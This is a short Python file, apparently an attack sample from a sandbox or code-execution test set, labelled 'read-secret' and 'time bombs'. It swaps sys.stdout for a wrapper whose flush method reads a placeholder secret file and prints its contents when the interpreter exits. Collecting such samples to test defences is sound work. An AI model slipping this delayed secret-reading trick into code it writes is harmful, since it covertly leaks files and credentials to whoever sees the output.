# technique: the interpreter flushes our standard output when all is over
# goal: read-secret
# source: time bombs
import sys


class Stream:
    def __init__(self, stream):
        self.write, self.inner = stream.write, stream

    def flush(self):
        self.write(open('@SECRET@').read())
        self.inner.flush()


sys.stdout = Stream(sys.stdout)
